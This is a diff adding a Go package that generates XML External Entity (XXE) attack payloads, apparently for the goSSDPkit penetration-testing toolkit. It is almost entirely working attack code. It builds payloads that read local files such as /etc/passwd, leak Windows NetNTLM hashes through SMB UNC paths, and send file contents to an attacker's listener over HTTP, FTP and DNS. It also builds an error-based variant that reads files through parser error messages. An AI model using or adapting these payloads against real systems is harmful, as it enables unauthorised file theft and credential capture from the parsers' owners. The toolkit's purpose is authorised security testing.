@@ -0,0 +1,163 @@
+// Package xxe builds the XXE payloads goSSDPkit's listeners catch, so they
+// can be pasted into descriptors, SOAP bodies or file uploads outside the
+// stock templates.
+package xxe
+
+import (
+	"fmt"
+	"strings"
+)
+
+// DTDPath is where the HTTP server serves a template's data.dtd
+const DTDPath = "/ssdp/data.dtd"
+
+// DefaultFile is the file the stock exfiltration templates read unless
+// told otherwise: harmless, and proof enough of file access
+const DefaultFile = "C:/users/public/pwned.txt"
+
+// Params fill in the payloads
+type Params struct {
+	LocalIP   string // address the listeners are reached at
+	LocalPort int    // HTTP port
+	SMBServer string // SMB server for UNC paths; LocalIP when empty
+	FTPPort   int    // FTP exfiltration port, 0 when off
+	DNSDomain string // DNS exfiltration domain, empty when off
+	File      string // file to read: a path or a URL such as file:///etc/passwd
+}
+
+// Payload is one XXE variant: the XML to deliver and, for variants loading
+// an external DTD, the DTD to serve at DTDPath
+type Payload struct {
+	Name        string
+	Description string
+	XML         string
+	DTD         string
+}
+
+// FileURL turns a path into the URL an entity reads it from. Windows paths
+// (C:\Windows\win.ini) become file:///C:/Windows/win.ini and anything with
+// a scheme is left alone.
+func FileURL(path string) string {
+	switch {
+	case strings.Contains(path, "://"):
+		return path
+	case len(path) >= 2 && path[1] == ':':
+		return "file:///" + strings.ReplaceAll(path, `\`, "/")
+	case strings.HasPrefix(path, "/"):
+		return "file://" + path
+	}
+	return "file:///" + path
+}
+
+// CheckFile returns an error if path cannot go into an entity's SYSTEM
+// literal as it is
+func CheckFile(path string) error {
+	if path == "" || strings.ContainsAny(path, "\"'<>%&\n\r") {
+		return fmt.Errorf("invalid XXE file %q", path)
+	}
+	return nil
+}
+
+// Generate returns every payload the params allow. FTP and DNS variants
+// need their listener set.
+func Generate(p Params) []Payload {
+	base := fmt.Sprintf("http://%s:%d", p.LocalIP, p.LocalPort)
+	smb := p.SMBServer
+	if smb == "" {
+		smb = p.LocalIP
+	}
+	file := FileURL(p.File)
+	loadDTD := fmt.Sprintf(`<!ENTITY %% dtd SYSTEM "%s%s">
+%%dtd;`, base, DTDPath)
+
+	payloads := []Payload{
+		{
+			Name:        "inband",
+			Description: "Classic entity reading the file into the document, for parsers that echo it back",
+			XML: fmt.Sprintf(`<?xml version="1.0"?>
+<!DOCTYPE data [
+<!ENTITY xxe SYSTEM "%s">
+]>
+<data>&xxe;</data>
+`, file),
+		},
+		{
+			Name:        "canary",
+			Description: "External entity fetching the XXE canary, to detect a vulnerable parser",
+			XML: fmt.Sprintf(`<?xml version="1.0"?>
+<!DOCTYPE data [
+<!ENTITY xxe SYSTEM "%s/ssdp/xxe.html">
+]>
+<data>&xxe;</data>
+`, base),
+		},
+		{
+			Name:        "smb",
+			Description: "External entity on a UNC path, leaking a NetNTLM hash from Windows hosts",
+			XML: fmt.Sprintf(`<?xml version="1.0"?>
+<!DOCTYPE data [
+<!ENTITY xxe SYSTEM "file://///%s/smb/hash.jpg">
+]>
+<data>&xxe;</data>
+`, smb),
+		},
+		{
+			Name:        "oob-http",
+			Description: "Parameter entities sending the file out in an HTTP query string (single-line files)",
+			XML:         oobXML(file, loadDTD),
+			DTD: fmt.Sprintf(`<!ENTITY %% all "<!ENTITY send SYSTEM '%s/?exfiltrated=%%file;'>">
+%%all;
+`, base),
+		},
+	}
+
+	if p.FTPPort != 0 {
+		payloads = append(payloads, Payload{
+			Name:        "oob-ftp",
+			Description: "Parameter entities sending the file out over FTP, newlines included",
+			XML:         oobXML(file, loadDTD),
+			DTD: fmt.Sprintf(`<!ENTITY %% all "<!ENTITY send SYSTEM 'ftp://%s:%d/%%file;'>">
+%%all;
+`, p.LocalIP, p.FTPPort),
+		})
+	}
+	if p.DNSDomain != "" {
+		payloads = append(payloads, Payload{
+			Name:        "oob-dns",
+			Description: "Parameter entities sending the file out as a DNS name (short single-word files)",
+			XML:         oobXML(file, loadDTD),
+			DTD: fmt.Sprintf(`<!ENTITY %% all "<!ENTITY send SYSTEM 'http://%%file;.%s/'>">
+%%all;
+`, p.DNSDomain),
+		})
+	}
+
+	payloads = append(payloads, Payload{
+		Name:        "error",
+		Description: "Error-based: the file ends up in the parser's error message, for parsers that show errors",
+		XML: fmt.Sprintf(`<?xml version="1.0"?>
+<!DOCTYPE data [
+%s
+]>
+<data>x</data>
+`, loadDTD),
+		DTD: fmt.Sprintf(`<!ENTITY %% file SYSTEM "%s">
+<!ENTITY %% eval "<!ENTITY &#x25; error SYSTEM 'file:///nonexistent/%%file;'>">
+%%eval;
+%%error;
+`, file),
+	})
+	return payloads
+}
+
+// oobXML is the document of the out-of-band variants, reading the file into
+// a parameter entity before loading the DTD that sends it out
+func oobXML(file, loadDTD string) string {
+	return fmt.Sprintf(`<?xml version="1.0"?>
+<!DOCTYPE data [
+<!ENTITY %% file SYSTEM "%s">
+%s
+]>
+<data>&send;</data>
+`, file, loadDTD)
+}